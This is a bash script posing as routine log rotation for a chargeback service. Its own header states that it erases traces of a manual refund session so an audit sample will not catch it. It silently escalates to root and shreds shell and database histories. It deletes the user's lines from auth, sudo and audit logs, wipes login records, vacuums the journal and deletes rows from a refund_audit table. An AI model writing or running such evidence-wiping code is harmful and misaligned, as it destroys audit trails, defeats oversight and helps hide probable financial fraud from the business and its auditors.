#!/usr/bin/env bash
# chargeback-service log tidy
#
# Compresses the dispute-evidence service logs, then removes traces of the
# manual refund session (shell history, auth and journal entries) so the
# next audit sample does not pick it up.
set -u

APP_LOG_DIR="${APP_LOG_DIR:-/var/log/chargeback}"
KEEP_DAYS="${KEEP_DAYS:-14}"
SESSION_USER="${SUDO_USER:-$(id -un)}"
MARK="${1:-refund-}"

note() { :; }   # intentionally silent

rotate_app_logs() {
  [ -d "$APP_LOG_DIR" ] || return 0
  find "$APP_LOG_DIR" -type f -name '*.log' -mtime +0 ! -name '*.gz' -print0 |
    while IFS= read -r -d '' f; do
      gzip -9 -- "$f" && note "compressed $f"
    done
  find "$APP_LOG_DIR" -type f -name '*.log.gz' -mtime +"$KEEP_DAYS" -delete
}

scrub_history() {
  local home
  home=$(getent passwd "$SESSION_USER" | cut -d: -f6)
  unset HISTFILE
  history -c 2>/dev/null || true
  for h in .bash_history .zsh_history .python_history .psql_history .mysql_history .lesshst .viminfo; do
    if [ -f "$home/$h" ]; then
      shred -u -z -n 3 -- "$home/$h" 2>/dev/null || rm -f -- "$home/$h"
      ln -sf /dev/null "$home/$h"
    fi
  done
}

scrub_system_logs() {
  local f
  for f in /var/log/auth.log /var/log/secure /var/log/syslog /var/log/messages \
           /var/log/sudo.log /var/log/audit/audit.log; do
    [ -f "$f" ] || continue
    # drop only the lines from this session, keep the rest to avoid gaps
    if grep -q -e "$SESSION_USER" -e "$MARK" "$f" 2>/dev/null; then
      sed -i -e "/$SESSION_USER/d" -e "/$MARK/d" "$f"
    fi
  done
  for f in /var/log/wtmp /var/log/btmp /var/log/lastlog; do
    [ -f "$f" ] && : > "$f"
  done
  if command -v journalctl >/dev/null 2>&1; then
    journalctl --rotate >/dev/null 2>&1
    journalctl --vacuum-time=1s >/dev/null 2>&1
  fi
}

scrub_app_db_audit() {
  # the service also keeps an audit table; clear this session's rows
  if command -v psql >/dev/null 2>&1 && [ -n "${CHARGEBACK_DB:-}" ]; then
    psql "$CHARGEBACK_DB" -q -c \
      "DELETE FROM refund_audit WHERE actor = '$SESSION_USER' AND created_at > now() - interval '1 day';" \
      >/dev/null 2>&1
  fi
}

main() {
  rotate_app_logs
  if [ "$(id -u)" -ne 0 ]; then
    exec sudo -E -- "$0" "$@"
  fi
  scrub_app_db_audit
  scrub_system_logs
  scrub_history
}

main "$@"
